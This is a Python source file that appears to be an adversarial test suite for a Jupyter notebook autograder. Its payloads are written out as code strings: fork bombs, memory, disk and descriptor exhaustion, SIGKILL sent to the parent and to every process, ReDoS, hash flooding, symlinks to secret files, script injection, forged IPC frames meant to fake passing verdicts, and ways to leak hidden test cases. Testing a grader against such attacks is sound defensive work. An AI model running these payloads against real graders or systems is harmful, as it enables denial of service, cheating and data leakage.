        "    print('LOOT:', m.size)\n"
        "except FileNotFoundError:\n"
        "    m = shared_memory.SharedMemory('left-there', True, 64)\n"
        "    resource_tracker.unregister(m._name, 'shared_memory')",
    ),
]

# --- too much of everything --------------------------------------------------

_EXHAUSTION_CELLS = [
    (
        "endless_loop",
        "a loop that ignores every signal it can",
        "import signal\n"
        "for number in range(1, 64):\n"
        "    try:\n        signal.signal(number, signal.SIG_IGN)\n"
        "    except (OSError, ValueError):\n        pass\n"
        "while True:\n"
        "    try:\n        pass\n    except BaseException:\n        pass",
        True,
    ),
    (
        "endless_sleep_in_c",
        "a sleep that Python cannot interrupt",
        "import ctypes\nctypes.PyDLL(None).sleep(10**6)",
        True,
    ),
    (
        "endless_match",
        "a regular expression that never ends",
        "import re\nre.match('(a+)+$', 'a' * 60 + 'b')",
        True,
    ),
    (
        "memory",
        "all memory there is",
        "kept = []\nwhile True:\n    kept.append(bytearray(50_000_000))",
        False,
    ),
    (
        "forks",
        "forks that fork",
        "import os, time\n"
        "for _ in range(12):\n"
        "    try:\n        os.fork()\n    except OSError:\n        pass\n"
        "time.sleep(1)\n"
        "os._exit(0)",
        True,
    ),
    (
        "threads",
        "20,000 threads",
        "import threading, time\n"
        "for _ in range(20_000):\n"
        "    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()",
        False,
    ),
    (
        "disk",
        "a disk full of zeros",
        "with open('big', 'wb') as file:\n"
        "    for _ in range(4000):\n        file.write(bytes(2**20))",
        False,
    ),
    (
        "many_files",
        "100,000 files",
        "for n in range(100_000):\n    open(f'f{n}', 'w').close()",
        False,
    ),
    (
        "descriptors",
        "every descriptor there is",
        "kept = [open('/dev/null') for _ in range(10**6)]",
        False,
    ),
    (
        "one_long_line",
        "100 MB in one line",
        "print('x' * 100_000_000)",
        False,
    ),
    (
        "output_without_end",
        "output until it is stopped",
        "while True:\n    print('x' * 1000)",
        True,
    ),
    (
        "many_outputs",
        "100,000 displays",
        "from IPython.display import display\n"
        "for n in range(100_000):\n    display(n)",
        True,
    ),
    (
        "recursion",
        "recursion without end or limit",
        "import sys, threading\n"
        "sys.setrecursionlimit(10**9)\n"
        "def f(): return f()\n"
        "f()",
        False,
    ),
    ("input", "input()", "answer = input('Your name? ')", False),
    (
        "segfault",
        "a segmentation fault",
        "import ctypes\nctypes.string_at(0)",
        False,
    ),
    ("abort", "abort()", "import os\nos.abort()", False),
    (
        "daemon",
        "a daemon that stays",
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n        time.sleep(600)\n"
        "    os._exit(0)",
        False,
    ),
    (
        "zombies",
        "200 zombies",
        "import os\n"
        "for _ in range(200):\n"
        "    if os.fork() == 0:\n        os._exit(0)",
        False,
    ),
    (
        "stopped",
        "a process that stops itself",
        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
        True,
    ),
    (
        "signals_to_the_parent",
        "SIGKILL to the parent and to everybody",
        "import os, signal\n"
        "for target in (os.getppid(), 1, -1):\n"
        "    try:\n        os.kill(target, signal.SIGKILL)\n"
        "    except OSError:\n        pass",
        False,
    ),
    (
        "channel_closed",
        "every descriptor closed",
        "import os\nos.closerange(3, 4096)",
        False,
    ),
]

_EXHAUSTION_ANSWERS = [
    (
        "hangs_when_called",
        "a function that never returns",
        "def double(x, times=1):\n    while True:\n        pass\n",
        True,
    ),
    (
        "stops_when_called",
        "a function that stops its process",
        "import os, signal\n"
        "def double(x, times=1):\n    os.kill(os.getpid(), signal.SIGSTOP)\n",
        True,
    ),
    (
        "memory_when_called",
        "a function that takes all memory",
        "import torch\n"
        "def double(x, times=1):\n    return torch.ones(10**10)\n",
        False,
    ),
]


def _many_slow_cells(notebook: NotebookNode) -> None:
    for n in range(8):
        notebook.cells.append(
            nbformat.v4.new_code_cell(f"import time; time.sleep(4)  # {n}")
        )


# --- files that are no notebooks ---------------------------------------------


def _bytes(content: bytes) -> Deliver:
    def deliver(folder: Path, notebook: bytes, words: Words) -> None:
        (folder / "03_mini.ipynb").write_bytes(content)

    return deliver


def _changed(change: Callable[[bytes], bytes]) -> Deliver:
    def deliver(folder: Path, notebook: bytes, words: Words) -> None:
        (folder / "03_mini.ipynb").write_bytes(change(notebook))

    return deliver


def _fifo(folder: Path, notebook: bytes, words: Words) -> None:
    os.mkfifo(folder / "03_mini.ipynb")


def _link_to(target: str) -> Deliver:
    def deliver(folder: Path, notebook: bytes, words: Words) -> None:
        (folder / "03_mini.ipynb").symlink_to(filled_in(target, words))

    return deliver


def _folder_as_notebook(folder: Path, notebook: bytes, words: Words) -> None:
    (folder / "03_mini.ipynb").mkdir()


def _several(folder: Path, notebook: bytes, words: Words) -> None:
    (folder / "03_mini.ipynb").write_bytes(notebook)
    (folder / "03_mini (1).ipynb").write_bytes(notebook)


_BAD_INPUT = [
    ("empty_file", "an empty file", _bytes(b"")),
    ("truncated", "half a notebook", _changed(lambda b: b[: len(b) // 2])),
    ("no_json", "a text", _bytes(b"dear grader, here is my work")),
    ("binary", "random bytes", _bytes(bytes(range(256)) * 40)),
    (
        "utf_16",
        "a notebook in UTF-16",
        _changed(lambda b: b.decode().encode("utf-16")),
    ),
    ("json_list", "a JSON list", _bytes(b"[1, 2, 3]")),
    ("json_depth", "JSON nested 200,000 deep", _bytes(b"[" * 200_000)),
    (
        "json_numbers",
        "numbers that no notebook has",
        _bytes(b'{"nbformat": NaN, "nbformat_minor": 1e999, "cells": []}'),
    ),
    (
        "huge_integer",
        "an integer of 100,000 digits",
        _bytes(b'{"nbformat": ' + b"9" * 100_000 + b', "cells": []}'),
    ),
    (
        "cells_as_numbers",
        "cells that are numbers",
        _bytes(
            b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {},'
            b' "cells": [1, null, "x", {"cell_type": 7, "source": 9}]}'
        ),
    ),
    (
        "version_1",
        "a notebook of version 1",
        _bytes(b'{"nbformat": 1, "cells": [{"code": "print(1)"}]}'),
    ),
    (
        "version_3",
        "a notebook of version 3",
        _bytes(
            b'{"nbformat": 3, "nbformat_minor": 0, "metadata": {}, '
            b'"worksheets": [{"cells": [{"cell_type": "code", "input": '
            b'"1 + 1", "language": "python", "outputs": []}]}]}'
        ),
    ),
    (
        "version_99",
        "a notebook of version 99",
        _changed(lambda b: b.replace(b'"nbformat": 4', b'"nbformat": 99')),
    ),
    (
        "surrogates",
        "half a character in the source",
        _changed(lambda b: b.replace(b"return None", b"'\\ud800'")),
    ),
    (
        "null_bytes",
        "null bytes in the source",
        _changed(lambda b: b.replace(b"return None", b"'\\u0000'")),
    ),
    ("fifo", "a pipe instead of a file", _fifo),
    (
        "link_to_secret",
        "a link to a file of yours",
        _link_to("{{SECRET_FILE}}"),
    ),
    ("link_to_itself", "a link to itself", _link_to("03_mini.ipynb")),
    ("link_to_device", "a link to /dev/zero", _link_to("/dev/zero")),
    ("folder", "a folder that is called like a notebook", _folder_as_notebook),
    ("several", "two notebooks", _several),
]

ATTACKS: list[Attack] = [
    *(
        Attack(name, "forging", tries, edit=edit)
        for name, tries, edit in _METADATA
    ),
    *(
        Attack(name, "forging", tries, before=cell)
        for name, tries, cell in _FORGING_CELLS
    ),
    *(
        Attack(
            name,
            "forging",
            tries,
            double=cell,
            mean=cell if "def mean" in cell or " mean " in cell else NO_MEAN,
        )
        for name, tries, cell in _FORGING_ANSWERS
    ),
    *(
        Attack(name, "exfiltration", tries, before=cell)
        for name, tries, cell in _EXFILTRATION_CELLS
    ),
    Attack(
        "history",
        "exfiltration",
        "the source of hidden tests in the history",
        double="def double(x, times=1):\n"
        "    shell = get_ipython()\n"
        "    import linecache\n"
        "    texts = [str(t) for t in getattr(shell, 'user_ns', {}).get('In', [])]\n"
        "    texts += [''.join(v[2]) for v in linecache.cache.values()\n"
        "              if len(v) > 2]\n"
        "    for text in texts:\n"
        "        if 'HIDDEN' + ' TESTS' in text or 'leaves_inputs' + '_alone('"
        " in text:\n"
        "            raise RuntimeError('LOOT: ' + text[:300])\n",
    ),
    *(
        Attack(
            name,
            "exfiltration",
            tries,
            double=cell,
            after="import os\n"
            "if os.path.exists('kept'):\n    print('LOOT:', open('kept').read())"
            if name == "kept_for_the_next_cell"
            else "",
        )
        for name, tries, cell in _SMUGGLED
    ),
    *(
        Attack(name, "exfiltration", tries, after=cell, harm=harm)
        for name, tries, cell, harm in _SCRIPTS
    ),
    Attack(
        "script_in_markdown",
        "exfiltration",
        "a script in a text cell",
        edit=_script_in_markdown,
        harm="<script>loot",
    ),
    Attack(
        "script_in_widget_state",
        "exfiltration",
        "a script in the widget state",
        edit=_script_in_widget_state,
        harm="<script>loot",
    ),
    *(
        Attack(name, "exfiltration", tries, before=cell, twice=True)
        for name, tries, cell in _TWICE
    ),
    *(
        Attack(name, "exhaustion", tries, before=cell, slow=slow)
        for name, tries, cell, slow in _EXHAUSTION_CELLS
    ),
    *(
        Attack(name, "exhaustion", tries, double=cell, slow=slow)
        for name, tries, cell, slow in _EXHAUSTION_ANSWERS
    ),
    Attack(
        "many_slow_cells",
        "exhaustion",
        "many cells, each just under the limit",
        edit=_many_slow_cells,
        slow=True,
    ),
    *(
        Attack(name, "bad input", tries, deliver=deliver)
        for name, tries, deliver in _BAD_INPUT
    ),
]

# --- attacks on this grader alone ---------------------------------------------
#
# They know how its processes talk to each other, and how its judge reads, compares
# and shows. Found by people who had read the code.

_FORGE = """
from course_grader.kernel import plain, serve

def forge(root, blob=b"", sizes=(), **record):
    layout = [["storages", list(sizes)], ["root", root]]
    answer = {"raised": [], "not_attempted": False, "out_of_memory": False,
              "where": None, "effects": {}, "data": None, **record}
    serve.run_probe = lambda *_: dict(answer)
    plain.encode = lambda _: (layout, blob)
"""
_FORGE_FRAMES = """
import json, os, socket, struct, sys, time
from course_grader.kernel import channel, serve

def frame(header, blob=b""):
    head = json.dumps(header).encode()
    return struct.pack(">QQ", len(head), len(blob)) + head + blob

def descriptors():
    for number in range(3, 64):
        try:
            yield socket.socket(fileno=os.dup(number))
        except OSError:
            pass
"""
_P = 2**61 - 1
_TENSOR = (
    '["tensor", {"dtype": "float32", "device": "cpu", "shape": [1], "grad": '
    'False, "storage": None}]'
)
# name, what it tries, the arguments of `forge`
_LONGEST = (
    "integers_without_end",
    "many_storages",
    "many_tensors",
    "storages_without_end",
)
"""Of the answers below those that take six seconds and more; the others do the same to
the same code with less."""
_ANSWERS = [
    (
        "hash_flood",
        "190,000 integers that all hash to 0",
        f'["set", [k * {_P} for k in range(190_000)]]',
    ),
    (
        "small_hash_flood",
        "12,000 of them, which end by themselves",
        f'["set", [k * {_P} for k in range(12_000)]]',
    ),
    (
        "hash_flood_of_keys",
        "the same as the keys of a dict",
        f'["dict", [[k * {_P}, 0] for k in range(90_000)]]',
    ),
    (
        "negative_hash_flood",
        "the same below zero",
        f'["set", [-k * {_P} for k in range(190_000)]]',
    ),
    (
        "hash_flood_of_floats",
        "floats that differ by powers of 2**61, which hash alike",
        '["set", [m * 2.0**(61 * j) for m in range(1, 12_000) for j in '
        "range(15)]]",
    ),
    (
        "hash_flood_of_complex",
        "complex numbers whose parts cancel in the hash",
        '["set", [["complex", str(-1000003 * k), str(k)] for k in '
        "range(60_000)]]",
    ),
    (
        "hash_flood_of_pairs",
        "tuples of integers, whose hash is no secret",
        '["set", [["tuple", [k, -k]] for k in range(60_000)]]',
    ),
    (
        "hash_flood_in_many_sets",
        "a thousand small floods in place of a large one",
        f'["list", [["set", [k * {_P} for k in range(190)]] for _ in '
        "range(1_000)]]",
    ),
    (
        "equal_low_bits",
        "integers of 64 bits that meet in the low ones",
        '["set", [(k << 43) for k in range(2**20)][:190_000]]',
    ),
    (
        "sets_in_sets",
        "a frozen set in a set in a set",
        "__import__('functools').reduce(lambda a, _: [\"set\", [a]], "
        'range(39), ["set", []])',
    ),
    (
        "integers_without_end",
        "4,000 integers of 4,000 digits",
        '["list", [10**4000 + k for k in range(4_000)]]',
    ),
    (
        "integer_too_long_to_print",
        "an integer of 5,000 digits, which Python does not print",
        '["list", [["float", "1" * 5_000], ["complex", "1" * 5_000, "0"]]]',
    ),
    (
        "tensor_as_a_key",
        "a dict whose keys are tensors",
        f'["dict", [[{_TENSOR}, 1], ["out", 2]]]',
    ),
    (
        "tensor_within_a_key",
        "a dict whose keys are tuples of tensors",
        f'["dict", [[["tuple", [{_TENSOR}, 1]], 1]]]',
    ),
    (
        "array_as_a_key",
        "a dict whose keys are arrays",
        f'["dict", [[["array", {_TENSOR}], 1], [["scalar", {_TENSOR}], 1]]]',
    ),
    (
        "nan_as_a_key",
        "a dict whose keys are NaN, which equals nothing",
        '["dict", [[["float", "nan"], 1], ["out", ["float", "nan"]]]]',
    ),
    (
        "list_as_a_key",
        "a dict whose keys cannot be hashed",
        '["dict", [[["list", [1]], 1]]]',
    ),
    (
        "half_a_character",
        "texts and keys that no file can hold",
        '["dict", [["\\ud800", "\\udfff"], ["out", "\\ud800"]]]',
    ),
    (
        "one_key_twice",
        "a dict with one key many times",
        '["dict", [["out", k] for k in range(90_000)]]',
    ),
    (
        "keys_of_many_kinds",
        "keys that are equal though of different types",
        '["dict", [[0, 1], [False, 1], [["float", "-0.0"], 1], '
        '[["complex", "0", "0"], 1]]]',
    ),
    (
        "endless_shape",
        "a tensor without memory, of 2**752 elements",
        '["tensor", {"dtype": "float32", "device": "meta", "shape": '
        '[2**47] * 16, "grad": True, "storage": None}]',
    ),
    (
        "one_byte_seen_often",
        "a hundred tensors of 250 MB that share one byte",
        '["list", [["tensor", {"dtype": "uint8", "device": "cpu", "shape": '
        '[250_000_000], "grad": False, "storage": 0, "stride": [0], "offset": '
        '0}] for _ in range(100)]], b"x", [1]',
    ),
    (
        "many_tensors",
        "60,000 tensors",
        '["list", [["tensor", {"dtype": "float64", "device": "cpu", "shape": '
        '[1], "grad": True, "storage": 0, "stride": [1], "offset": 0}] for _ '
        'in range(60_000)]], b"12345678", [8]',
    ),
    (
        "many_storages",
        "190,000 storages of one byte",
        '["list", [1]], b"x" * 190_000, [1] * 190_000',
    ),
    (
        "storages_without_end",
        "ten million storages of no byte",
        '["list", [1]], b"", [0] * 5_000_000',
    ),
    (
        "odd_devices",
        "devices that this machine does not have",
        '["list", [["device", "cuda:99"], ["device", "xla:0"], ["device", '
        '"meta"]]]',
    ),
    (
        "no_devices",
        "what is no device, no dtype and no float",
        '["list", [["device", 10**30], ["dtype", []], ["float", {}]]]',
    ),
    (
        "half_open_view",
        "a tensor that begins where its storage ends",
        '["tensor", {"dtype": "float64", "device": "cpu", "shape": [1], '
        '"grad": False, "storage": 0, "stride": [2**47], "offset": 2**47}], '
        'b"12345678", [8]',
    ),
    (
        "huge_answer",
        "an answer of 250 MiB for each question",
        '["list", [1]], bytes(250 * 2**20), [250 * 2**20]',
    ),
    (
        "lists_without_end",
        "5 million empty lists beside the answer",
        '["list", [1]], effects=[[]] * 5_000_000',
    ),
    (
        "names_of_exceptions",
        "exceptions with endless and unwritable names",
        '["list", [1]], raised=["\\ud800" * 1_000_000] * 10',
    ),
    (
        "effects_of_another_kind",
        "effects that are no lists of names",
        '["list", [1]], effects={"inputs_changed": "\\ud800", "warnings": '
        '[[1], None, "\\ud800"], "rng_changed": {}, "state_changed": 7}',
    ),
    (
        "line_of_another_kind",
        "lines that are none",
        '["list", [1]], raised=["ValueError"], where=["double", 10**18]',
    ),
    (
        "line_before_the_first",
        "the line minus one",
        '["list", [1]], raised=["ValueError"], where=["double", -1]',
    ),
    (
        "answers_that_are_too_good",
        "verdicts and points beside the answer",
        '["list", [1]], verdict="passed", points=5, max_points=5',
    ),
]
# name, what it tries, a cell, whether it is slow
_CHANNEL = [
    (
        "pid_that_is_infinite",
        "an infinite process number for the probes",
        "for one in descriptors():\n"
        "    one.sendall(b'')\n"
        "real = channel.Channel.send\n"
        "def send(self, header, blob=b'', timeout_s=None):\n"
        "    if 'pid' in header:\n        header = {'pid': float('inf')}\n"
        "    real(self, header, blob)\n"
        "channel.Channel.send = send",
        False,
    ),
    *(
        (
            f"pid_that_is_{name}",
            "a process number that is none",
            "real = channel.Channel.send\n"
            "def send(self, header, blob=b'', timeout_s=None):\n"
            f"    if 'pid' in header:\n        header = {{'pid': {pid}}}\n"
            "    real(self, header, blob)\n"
            "channel.Channel.send = send",
            False,
        )
        for name, pid in (
            ("a_list", "[1]"),
            ("a_long_one", "10**300"),
            ("no_number", "float('nan')"),
            ("negative", "-1"),
        )
    ),
    (
        "slow_reader",
        "answers a cell at once and reads the next one 4 bytes a second",
        "real = serve.receive_with_fd\n"
        "def slow(sock):\n"
        "    while True:\n        sock.recv(4)\n        time.sleep(1)\n"
        "serve.receive_with_fd = slow\n"
        "pad = 'x' * 190_000",
        True,
    ),
    (
        "slow_sender",
        "sends an answer of a megabyte, a byte a second",
        "def drip(self, header, blob=b'', timeout_s=None):\n"
        "    for byte in frame({'outputs': [], 'ok': True}, bytes(2**20)):\n"
        "        self.socket.sendall(bytes([byte]))\n        time.sleep(1)\n"
        "channel.Channel.send = drip",
        True,
    ),
    (
        "promise_without_end",
        "the head of a frame, and never the rest",
        "def promise(self, header, blob=b'', timeout_s=None):\n"
        "    self.socket.sendall(struct.pack('>QQ', 16 * 2**20, 2**28))\n"
        "    time.sleep(3600)\n"
        "channel.Channel.send = promise",
        True,
    ),
    (
        "frame_of_numbers",
        "a frame that is a number",
        "def send(self, header, blob=b'', timeout_s=None):\n"
        "    self.socket.sendall(struct.pack('>QQ', 1, 0) + b'7')\n"
        "channel.Channel.send = send",
        False,
    ),
    (
        "frame_of_infinities",
        "a frame whose numbers are infinite",
        "def send(self, header, blob=b'', timeout_s=None):\n"
        '    head = b\'{"ok": Infinity, "outputs": -Infinity, "pid": NaN}\'\n'
        "    self.socket.sendall(struct.pack('>QQ', len(head), 0) + head)\n"
        "channel.Channel.send = send",
        False,
    ),
    (
        "frame_nested_without_end",
        "a frame of 100,000 brackets",
        "def send(self, header, blob=b'', timeout_s=None):\n"
        "    head = b'[' * 100_000\n"
        "    self.socket.sendall(struct.pack('>QQ', len(head), 0) + head)\n"
        "channel.Channel.send = send",
        False,
    ),
    (
        "flood_of_outputs",
        "forged outputs of 15 MB in each cell",
        "def run(self, source):\n"
        "    text = 'x' * 3_900_000\n"
        "    return [{'output_type': 'display_data', 'metadata': {}, 'data': "
        "{f'text/{n}': text for n in range(4)}}], True\n"
        "type(get_ipython()).run = run",
        False,
    ),
    (
        "flood_of_kinds",
        "an output in 200,000 kinds",
        "def run(self, source):\n"
        "    return [{'output_type': 'display_data', 'metadata': {}, 'data': "
        "{f'text/{n}': 'x' for n in range(200_000)}}], True\n"
        "type(get_ipython()).run = run",
        False,
    ),
    (
        "flood_of_frames",
        "an error with 400,000 lines of traceback",
        "def run(self, source):\n"
        "    return [{'output_type': 'error', 'ename': 'E' * 10**6, 'evalue': "
        "'\\ud800' * 10**6, 'traceback': ['x'] * 400_000}] * 5, False\n"
        "type(get_ipython()).run = run",
        False,
    ),
    (
        "outputs_of_another_kind",
        "outputs that are none",
        "def run(self, source):\n"
        "    return [7, None, {'output_type': 7}, {'output_type': 'stream', "
        "'name': [], 'text': {}}, {'output_type': 'error', 'ename': 1, "
        "'evalue': 2, 'traceback': 3}, {'output_type': 'display_data', "
        "'data': {'\\ud800': '\\ud800', 'image/png': '!'}}], 'yes'\n"
        "type(get_ipython()).run = run",
        False,
    ),
]
# name, what it tries, a cell at the top
_ROOM = [
    (
        "shared_memory_that_nobody_has",
        "memory that stays in the kernel after MADV_DONTNEED",
        "import mmap\nkept = []\n"
        "for _ in range(40):\n"
        "    one = mmap.mmap(-1, 100_000_000)\n"
        "    one.write(bytes(100_000_000))\n"
        "    one.madvise(mmap.MADV_DONTNEED)\n"
        "    kept.append(one)\n"
        "print('LOOT: 4 GB')",
    ),
    (
        "shared_zeros",
        "the same, by mapping /dev/zero",
        "import mmap, os\n"
        "one = mmap.mmap(os.open('/dev/zero', os.O_RDWR), 100_000_000)\n"
        "one.write(bytes(100_000_000))\n"
        "print('LOOT: 100 MB')",
    ),
    (
        "page_tables",
        "a page in every 2 MiB of 400 GiB, for the page tables",
        "import mmap\n"
        "flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000\n"
        "one = mmap.mmap(-1, 400 * 2**30, flags=flags, prot=mmap.PROT_READ)\n"
        "total = sum(one[at] for at in range(0, 400 * 2**30, 2**21))\n"
        "print('LOOT: 800 MB of page tables')",
    ),
    (
        "back_from_the_oom_killer",
        "not to be ended first when memory runs out",
        "open('/proc/self/oom_score_adj', 'w').write('0')\n"
        "print('LOOT:', open('/proc/self/oom_score_adj').read())",
    ),
    (
        "watching_the_machine",
        "what the machine runs, by inotify on its programs",
        "import ctypes\n"
        "libc = ctypes.CDLL(None)\n"
        "if libc.inotify_init() >= 0 or libc.inotify_init1(0) >= 0:\n"
        "    print('LOOT: inotify')",
    ),
    (
        "terminals_of_others",
        "a terminal that the room before this one has opened",
        "import os, pty, time\n"
        "for name in os.listdir('/dev/pts'):\n"
        "    if name.isdigit():\n        print('LOOT:', name)\n"
        "kept = pty.openpty()\n",
    ),
    (
        "terminals_without_end",
        "all terminals there are",
        "import pty\nkept = []\ntry:\n"
        "    while True:\n        kept.append(pty.openpty())\n"
        "except OSError:\n    pass\n"
        "if len(kept) > 70:\n    print('LOOT:', len(kept))",
    ),
    (
        "listener_of_calls",
        "a seccomp filter of its own that asks it about each call",
        "import ctypes\n"
        "if ctypes.CDLL(None).syscall(317, 1, 8, None) >= 0:\n"
        "    print('LOOT: listener')\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "libc.syscall(317, 1, 8, None)\n"
        "if ctypes.get_errno() not in (1, 38):\n    print('LOOT: seccomp')",
    ),
    (
        "writes_in_proc",
        "settings of its own processes in /proc",
        "for name in ('coredump_filter', 'clear_refs', 'timerslack_ns',\n"
        "             'autogroup', 'uid_map', 'oom_adj'):\n"
        "    try:\n        open('/proc/self/' + name, 'w').write('1')\n"
        "        print('LOOT:', name)\n"
        "    except OSError:\n        pass",
    ),
]


def _slow_lines(text: str, count: int) -> Callable[[NotebookNode], None]:
    def edit(notebook: NotebookNode) -> None:
        notebook.cells += [
            nbformat.v4.new_code_cell(f"{number}\n{text}")
            for number in range(count)
        ]

    return edit


def _texts(text: str, count: int) -> Callable[[NotebookNode], None]:
    def edit(notebook: NotebookNode) -> None:
        notebook.cells += [
            nbformat.v4.new_markdown_cell(f"{number} {text}")
            for number in range(count)
        ]

    return edit


def _setup_changed(to: str) -> Callable[[NotebookNode], None]:
    def edit(notebook: NotebookNode) -> None:
        for cell in notebook.cells:
            if cell.source == "two = 2":
                cell.source = to

    return edit


# What feedback shows of a case comes from one more call. A case that is not shown
# is kept until then: that of the refused input passes, so it never is.
_KEEPS = """
def double(x, times=1):
    if times < 0:
        keep(x)
        raise ValueError
    return None
"""
# name, what it tries, how it is kept, how it gets out, what must not be seen
_KEPT = [
    (
        "kept_in_a_file",
        "another case is kept in a file until one is shown",
        "def keep(x):\n    open('/tmp/kept', 'w').write(str(4000.0 + 711))\n"
        "def kept():\n    return float(open('/tmp/kept').read())",
        "return kept() if os.path.exists('/tmp/kept') else 0.0",
        "4711",
    ),
    (
        "kept_at_home",
        "another case is kept in a file's name",
        "def keep(x):\n    os.mkdir(str(4000 + 711))",
        "return sum(map(float, filter(str.isdigit, os.listdir()))) or 0.0",
        "4711",
    ),
    (
        "kept_in_shared_memory",
        "another case is kept in /dev/shm",
        "def keep(x):\n    open('/dev/shm/kept', 'w').write(str(4000.0 + 711))",
        "return 4000.0 + 711 if os.path.exists('/dev/shm/kept') else 0.0",
        "4711",
    ),
    (
        "kept_by_a_process",
        "another case is kept by a process that stays",
        "def keep(x):\n"
        "    if os.fork() == 0:\n"
        "        os.setsid()\n"
        "        one = socket.socket(socket.AF_UNIX)\n"
        "        one.bind('\\0kept')\n"
        "        one.listen(9)\n"
        "        while True:\n"
        "            one.accept()[0].send(str(4000.0 + 711).encode())\n"
        "def kept():\n"
        "    one = socket.socket(socket.AF_UNIX)\n"
        "    try:\n"
        "        one.connect('\\0kept')\n"
        "        return float(one.recv(9))\n"
        "    except OSError:\n"
        "        return 0.0",
        "return kept()",
        "4711",
    ),
    (
        "kept_on_the_loopback",
        "another case is kept by a process on localhost",
        "def keep(x):\n"
        "    if os.fork() == 0:\n"
        "        os.setsid()\n"
        "        one = socket.create_server(('127.0.0.1', 5999))\n"
        "        while True:\n"
        "            one.accept()[0].send(str(4000.0 + 711).encode())\n"
        "def kept():\n"
        "    try:\n"
        "        return float(socket.create_connection(('127.0.0.1', 5999), 1)"
        ".recv(9))\n"
        "    except OSError:\n"
        "        return 0.0",
        "return kept()",
        "4711",
    ),
    (
        "kept_by_the_parent",
        "another case is kept by the process that probes are forked from",
        "cell_reads, probe_writes = os.pipe()\n"
        "box = [0.0]\n"
        "def wait():\n"
        "    box[0] = float(os.read(cell_reads, 9))\n"
        "threading.Thread(target=wait, daemon=True).start()\n"
        "def keep(x):\n"
        "    os.write(probe_writes, str(4000.0 + 711).encode())\n"
        "    import time\n"
        "    time.sleep(0.1)",
        "return box[0]",
        "4711",
    ),
    (
        "kept_in_a_number_of_a_process",
        "another case is kept in the numbers of processes",
        "def keep(x):\n"
        "    for _ in range(40):\n"
        "        os.waitpid(os.posix_spawn('/bin/true', ['true'], {}), 0)",
        "return 4000.0 + 711 if os.getpid() > 30 else 0.0",
        "4711",
    ),
    (
        "kept_for_an_exception",
        "a kept case is told in the text of an exception",
        "def keep(x):\n    open('/tmp/kept', 'w').write(str(4000 + 711))",
        "raise ValueError(open('/tmp/kept').read() if os.path.exists("
        "'/tmp/kept') else 'nothing')",
        "4711",
    ),
    (
        "kept_for_a_class_name",
        "a kept case is told in the name of the class of what is returned",
        "def keep(x):\n    open('/tmp/kept', 'w').write('LOOT%d' % (4000 + 711))",
        "return type(open('/tmp/kept').read() if os.path.exists('/tmp/kept') "
        "else 'None', (), {})()",
        "4711",
    ),
    (
        "kept_for_the_order_of_keys",
        "a kept case is told in the order of a dict",
        "def keep(x):\n    open('/tmp/kept', 'w')",
        "return dict.fromkeys(('q%d' % (4000 + 711), 'b') if os.path.exists('/tmp/kept') "
        "else ('b', 'q%d' % (4000 + 711)), 1)",
        "q4711.{0,9}b",
    ),
    (
        "kept_in_low_bits",
        "a kept case is told in digits that no tolerance sees",
        "def keep(x):\n    open('/tmp/kept', 'w')",
        "return 3.0 + 1.0e-9 * os.path.exists('/tmp/kept')",
        "3.000000001",
    ),
    (
        "kept_in_the_arguments",
        "a kept case is put into the arguments that are shown",
        "def keep(x):\n    open('/tmp/kept', 'w')",
        "x.fill_(4000.0 + 711 if os.path.exists('/tmp/kept') else 0.0); return 0.0",
        "4711",
    ),
]
_ODD = """
import numpy as np
class Odd(dict):
    pass
def nest(value, times):
    for _ in range(times):
        value = [value]
    return value
"""
# name, what it tries, the answer to everything
_ODD_ANSWERS = [
    ("beyond_floats", "an integer that no float holds", "2**1024 - 1"),
    ("below_floats", "one below zero", "-(2**1024 - 1)"),
    ("float8", "a tensor of 8 bits", "torch.ones(5).to(torch.float8_e5m2)"),
    ("uint64", "unsigned ones", "torch.ones(5).to(torch.uint64)"),
    (
        "complex32",
        "complex ones of 16 bits",
        "torch.ones(5).to(torch.complex32)",
    ),
    ("no_entries", "tensors without entries", "[torch.empty(0, 3, 0)] * 3"),
    ("sixteen_axes", "a tensor of 16 axes", "torch.ones([1] * 15 + [5])"),
    (
        "expanded",
        "60 million entries of one number",
        "torch.ones(1).expand(6 * 10**7)",
    ),
    ("meta", "a tensor without values", "torch.empty(5, device='meta')"),
    (
        "records",
        "an array of records",
        "np.zeros(3, [('a', 'i4'), ('b', 'O')])",
    ),
    ("void", "a scalar without type", "np.void(b'abc')"),
    ("dates", "an array of dates", "np.array(['2026-01-01'], 'M8[D]')"),
    ("half_characters", "texts that no file holds", "{'\\udce9': '\\ud800'}"),
    ("turned_writing", "characters that turn the writing", "'\\u202e' * 99"),
    (
        "keys_of_all_kinds",
        "a dict whose keys do not sort",
        "{1: 2, None: 3, '': 4, (1,): 5}",
    ),
    (
        "sets_of_all_kinds",
        "a set that does not sort",
        "{1, None, 'a', (2,), 1j}",
    ),
    ("deep", "a list 39 deep", "nest(1, 37)"),
    (
        "numbers_that_are_none",
        "NaN and infinities in all places",
        "[float('nan'), float('inf'), 1j * float('inf')]",
    ),
    ("own_dict", "a class of dict", "Odd(out=torch.ones(5))"),
    ("wide", "a list of 150,000 lists", "[[]] * 150_000"),
]
_FORGE_CALLS = """
from course_grader.kernel import serve, tracing
def forge(calls):
    tracing.Trace.record = lambda self: {"calls": calls, "count": 10**9}
"""
# name, kind, what it tries, the calls that are noted, what must not be seen
_CALLS = [
    (
        "script_in_a_call",
        "exfiltration",
        "a script in the call that a failed check shows",
        "[{'call': '<script>alert(1)</script>', 'args': ['<script>alert(2)'], "
        "'kwargs': {'<script>alert(3)': '</code><script>'}, 'names': "
        "['<script>'], 'around': ['<script>alert(4)'], 'returned': "
        "'<script>alert(5)'}]",
        r"<(code|pre|span)[^>]*>[^<]*<script>",
    ),
    (
        "calls_without_end",
        "exhaustion",
        "a hundred thousand calls to show",
        "[{'call': 'double', 'returned': [1.5, None]}] * 30_000",
        "grader itself broke|not graded to its end",
    ),
    (
        "calls_of_any_form",
        "bad input",
        "calls whose parts are of the wrong kind",
        "[{'call': None, 'args': 7, 'names': {}, 'kwargs': [1], 'state': 'x', "
        "'around': {1: 2}, 'returned': {'a': float('nan')}}, {'call': []}, 5]",
        "grader itself broke|not graded to its end",
    ),
    (
        "call_of_a_long_name",
        "exhaustion",
        "a name of ten million characters",
